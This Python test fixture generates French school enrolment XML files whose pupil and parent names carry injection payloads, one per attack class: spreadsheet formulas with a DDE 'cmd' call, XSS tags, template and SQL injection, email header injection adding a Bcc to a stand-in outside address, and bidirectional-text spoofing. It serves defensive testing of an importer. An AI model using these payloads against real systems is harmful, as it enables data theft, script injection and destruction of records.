"""Names nobody has, as an attacker would type them at the source (trust 39)."""

from dataclasses import dataclass
from datetime import date
from xml.sax.saxutils import escape


OVERRIDE, ISOLATE = "\u202e", "\u2066"
FAR = "ailleurs@example.test"  # where a stolen letter would go
LONG = "É" * 10_000


@dataclass(frozen=True)
class Hostile:
    """A pupil's names, and those of the mother, as they stand in the file: already escaped for XML."""

    family: str
    given: str


def names(canary: str) -> dict[str, Hostile]:
    """One pupil for each way to break something."""
    return {
        "formula": Hostile("=cmd|' /C calc'!A0", "@SUM(1+1)"),
        "more formula": Hostile("+33-1", "-2+3"),
        "script": Hostile(escape("<script>alert(39)</script>"), escape('"><img src=x onerror=alert(39)>')),
        "attribute": Hostile(escape("' onmouseover='alert(39)"), escape('" autofocus onfocus="alert(39)')),
        "template": Hostile("{{ settings.SECRET_KEY }}", "{% debug %}"),
        "direction": Hostile(f"{OVERRIDE}txt.exe", f"\u200f{ISOLATE}Zoé"),
        "query": Hostile("Robert'); DROP TABLE schools_pupil;--", "\\N"),
        "header": Hostile(f"Essai&#13;&#10;Bcc: {FAR}", "Zoé&#13;&#10;&#13;&#10;Cher parent"),
        "encoded header": Hostile("=?utf-8?q?=0D=0ABcc:_x?=", "%0d%0aBcc:%20x"),
        "fetch": Hostile(escape(f'<img src="{canary}">'), escape(f'<link rel=attachment href="{canary}">')),
        "table": Hostile('a";"b', "c,d\te"),
        "long": Hostile(LONG, LONG),
    }


def address_of(rank: int) -> str:
    return f"mere{rank}@example.org"


def pupils_file(uai: str, hostiles: list[Hostile], on: date) -> str:
    """A whole class of them, in seconde."""
    rows = "".join(
        f'<ELEVE ELEVE_ID="{rank}"><ID_NATIONAL>{390_000_000 + rank}HX</ID_NATIONAL>'
        f"<NOM_DE_FAMILLE>{one.family}</NOM_DE_FAMILLE><PRENOM>{one.given}</PRENOM>"
        "<DATE_NAISS>14/03/2011</DATE_NAISS><DATE_ENTREE>01/09/2026</DATE_ENTREE><CODE_STATUT>ST</CODE_STATUT>"
        "<CODE_MEF>20010019110</CODE_MEF></ELEVE>"
        for rank, one in enumerate(hostiles)
    )
    classes = "".join(
        f'<STRUCTURES_ELEVE ELEVE_ID="{rank}"><STRUCTURE><CODE_STRUCTURE>=2GT&lt;b&gt;</CODE_STRUCTURE>'
        "<TYPE_STRUCTURE>D</TYPE_STRUCTURE></STRUCTURE></STRUCTURES_ELEVE>"
        for rank in range(len(hostiles))
    )
    body = f"<ELEVES>{rows}</ELEVES><STRUCTURES>{classes}</STRUCTURES>"
    return _document("BEE_ELEVES", uai, body, on)


def guardians_file(uai: str, hostiles: list[Hostile], on: date) -> str:
    """A mother each, of the same name; the addresses of two try to name somebody else as well."""
    people = "".join(
        f'<PERSONNE PERSONNE_ID="{rank}"><LC_CIVILITE>MME</LC_CIVILITE><NOM_DE_FAMILLE>{one.family}</NOM_DE_FAMILLE>'
        f"<PRENOM>{one.given}</PRENOM><MEL>{_mail(rank)}</MEL></PERSONNE>"
        for rank, one in enumerate(hostiles)
    )
    links = "".join(
        f"<RESPONSABLE_ELEVE><ELEVE_ID>{rank}</ELEVE_ID><PERSONNE_ID>{rank}</PERSONNE_ID>"
        "<NIVEAU_RESPONSABILITE>1</NIVEAU_RESPONSABILITE><CODE_PARENTE>10</CODE_PARENTE></RESPONSABLE_ELEVE>"
        for rank in range(len(hostiles))
    )
    body = f"<PERSONNES>{people}</PERSONNES><RESPONSABLES>{links}</RESPONSABLES>"
    return _document("BEE_RESPONSABLES", uai, body, on)


def _mail(rank: int) -> str:
    tails = {0: f"&#13;&#10;Bcc: {FAR}", 1: f", {FAR}"}
    return address_of(rank) + tails.get(rank, "")


def _document(root: str, uai: str, body: str, on: date) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><{root}><PARAMETRES><UAJ>{uai}</UAJ>'
        f"<ANNEE_SCOLAIRE>2026</ANNEE_SCOLAIRE><HORODATAGE>{on:%d/%m/%Y} 05:12:44</HORODATAGE></PARAMETRES>"
        f"<DONNEES>{body}</DONNEES></{root}>"
    )
